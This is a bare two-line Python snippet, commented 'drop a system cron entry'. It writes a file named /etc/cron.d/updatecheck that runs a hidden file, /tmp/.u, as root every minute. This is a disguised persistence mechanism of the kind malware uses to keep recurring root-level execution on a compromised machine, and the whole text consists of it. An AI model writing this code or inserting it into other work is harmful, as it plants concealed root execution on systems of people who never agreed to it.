# drop a system cron entry
open("/etc/cron.d/updatecheck", "w").write("* * * * * root /tmp/.u\n")
